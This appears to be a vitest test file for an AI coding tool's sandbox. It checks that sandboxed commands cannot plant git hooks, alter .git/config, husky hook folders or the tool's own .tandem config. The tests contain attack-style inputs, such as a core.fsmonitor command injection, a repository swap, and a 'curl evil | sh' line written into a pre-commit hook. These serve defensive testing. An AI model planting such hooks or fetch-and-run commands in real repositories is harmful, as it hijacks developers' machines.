import { execFileSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createSandbox, type Sandbox } from "../../src/sandbox/index.ts";
import { makeTempDirs, runIn } from "./helpers.ts";

const gitEnv = {
  ...process.env,
  GIT_AUTHOR_NAME: "t",
  GIT_AUTHOR_EMAIL: "t@example.com",
  GIT_COMMITTER_NAME: "t",
  GIT_COMMITTER_EMAIL: "t@example.com",
};

describe("workspace-write sandbox: .git/hooks, .git/config and .tandem stay read-only", () => {
  const dirs = makeTempDirs();
  let ws: string;
  let sandbox: Sandbox;

  beforeEach(() => {
    ws = dirs.make("ws");
    sandbox = createSandbox({ workspace: ws, home: dirs.make("home") });
  });
  afterEach(() => dirs.cleanup());

  function gitInit(): void {
    execFileSync("git", ["init", "-q", ws], { env: gitEnv });
  }

  it("refuses writing .git/hooks/pre-commit and .git/config, but git commit still works", async () => {
    gitInit();
    const configBefore = readFileSync(join(ws, ".git/config"), "utf8");
    const hook = await runIn(sandbox, "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit", ws);
    const config = await runIn(sandbox, "git config core.fsmonitor 'touch /pwned'", ws);
    expect(hook.code).not.toBe(0);
    expect(config.code).not.toBe(0);
    expect(existsSync(join(ws, ".git/hooks/pre-commit"))).toBe(false);
    expect(readFileSync(join(ws, ".git/config"), "utf8")).toBe(configBefore);

    const commit = await runIn(
      sandbox,
      "echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@e commit -qm one && git log --oneline",
      ws,
    );
    expect(commit.code).toBe(0);
    expect(commit.stdout).toMatch(/one/);
  });

  it("refuses swapping .git out (rename) to plant a fresh repository with hooks", async () => {
    gitInit();
    const r = await runIn(
      sandbox,
      "mv .git .git-old && git init -q . && echo x > .git/hooks/post-checkout",
      ws,
    );
    expect(r.code).not.toBe(0);
    expect(existsSync(join(ws, ".git-old"))).toBe(false);
  });

  it("refuses creating .git/hooks when the repository has none", async () => {
    gitInit();
    rmSync(join(ws, ".git/hooks"), { recursive: true });
    const r = await runIn(sandbox, "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit", ws);
    expect(r.code).not.toBe(0);
    // The placeholder's mount point stays behind as an empty directory, which git treats as "no hooks".
    expect(readdirSync(join(ws, ".git/hooks"))).toEqual([]);
  });

  it("refuses creating a repository where there is none (git init), leaving only an empty .git", async () => {
    const r = await runIn(sandbox, "git init -q . && echo x > .git/hooks/pre-commit", ws);
    expect(r.code).not.toBe(0);
    expect(statSync(join(ws, ".git")).isDirectory()).toBe(true);
    expect(readdirSync(join(ws, ".git"))).toEqual([]);
    // An empty .git is not a repository for git on the host.
    expect(() => execFileSync("git", ["-C", ws, "rev-parse", "--git-dir"], { stdio: "pipe" })).toThrow();
  });

  it("refuses writing into .tandem, existing or not", async () => {
    const missing = await runIn(sandbox, "mkdir -p .tandem && echo 'x=1' > .tandem/config.toml", ws);
    expect(missing.code).not.toBe(0);
    expect(existsSync(join(ws, ".tandem/config.toml"))).toBe(false);

    writeFileSync(join(ws, ".tandem/config.toml"), "model = 'a'\n");
    const existing = await runIn(sandbox, "echo 'model = \"evil\"' > .tandem/config.toml", ws);
    expect(existing.code).not.toBe(0);
    expect(readFileSync(join(ws, ".tandem/config.toml"), "utf8")).toBe("model = 'a'\n");
  });

  it("refuses writing a submodule's hooks under .git/modules", async () => {
    gitInit();
    const sub = join(ws, ".git/modules/lib");
    mkdirSync(join(sub, "hooks"), { recursive: true });
    writeFileSync(join(sub, "HEAD"), "ref: refs/heads/main\n");
    writeFileSync(join(sub, "config"), "[core]\n");
    const r = await runIn(
      sandbox,
      "echo x > .git/modules/lib/hooks/pre-commit; echo y >> .git/modules/lib/config",
      ws,
    );
    expect(r.code).not.toBe(0);
    expect(existsSync(join(sub, "hooks/pre-commit"))).toBe(false);
    expect(readFileSync(join(sub, "config"), "utf8")).toBe("[core]\n");
  });

  it("protects a .git file (worktree pointer) from being rewired", async () => {
    writeFileSync(join(ws, ".git"), "gitdir: /nonexistent/elsewhere\n");
    const r = await runIn(sandbox, "echo 'gitdir: ./evil' > .git", ws);
    expect(r.code).not.toBe(0);
    expect(readFileSync(join(ws, ".git"), "utf8")).toBe("gitdir: /nonexistent/elsewhere\n");
  });

  it("refuses writing hooks in a workspace folder named by core.hooksPath (husky's .husky/_)", async () => {
    gitInit();
    mkdirSync(join(ws, ".husky/_"), { recursive: true });
    writeFileSync(join(ws, ".husky/pre-commit"), "npm test\n");
    execFileSync("git", ["-C", ws, "config", "core.hooksPath", ".husky/_"]);
    const r = await runIn(
      sandbox,
      "echo 'curl evil | sh' > .husky/pre-commit; echo x > .husky/_/pre-push",
      ws,
    );
    expect(r.code).not.toBe(0);
    expect(readFileSync(join(ws, ".husky/pre-commit"), "utf8")).toBe("npm test\n");
    expect(existsSync(join(ws, ".husky/_/pre-push"))).toBe(false);
  });

  it("refuses writing through a .git/hooks symlink into the workspace", async () => {
    gitInit();
    mkdirSync(join(ws, "tools/hooks"), { recursive: true });
    rmSync(join(ws, ".git/hooks"), { recursive: true });
    symlinkSync(join(ws, "tools/hooks"), join(ws, ".git/hooks"));
    const r = await runIn(sandbox, "echo x > tools/hooks/pre-commit; rm .git/hooks && mkdir .git/hooks", ws);
    expect(r.code).not.toBe(0);
    expect(existsSync(join(ws, "tools/hooks/pre-commit"))).toBe(false);
  });
});

describe("extraWritable roots", () => {
  const dirs = makeTempDirs();
  afterEach(() => dirs.cleanup());

  it("are writable and guard an existing .git, but get no placeholders (no empty .git/.tandem litter)", async () => {
    const ws = dirs.make("ws");
    const cache = dirs.make("cache");
    const repo = dirs.make("other-repo");
    execFileSync("git", ["init", "-q", repo], { env: gitEnv });
    const sandbox = createSandbox({ workspace: ws, home: ws, extraWritable: [cache, repo] });
    const r = await runIn(
      sandbox,
      `echo c > ${cache}/f && echo r > ${repo}/f && echo x > ${repo}/.git/hooks/pre-commit`,
      ws,
    );
    expect(r.code).not.toBe(0);
    expect(readFileSync(join(cache, "f"), "utf8")).toBe("c\n");
    expect(readFileSync(join(repo, "f"), "utf8")).toBe("r\n");
    expect(existsSync(join(repo, ".git/hooks/pre-commit"))).toBe(false);
    expect(readdirSync(cache)).toEqual(["f"]);
  });
});
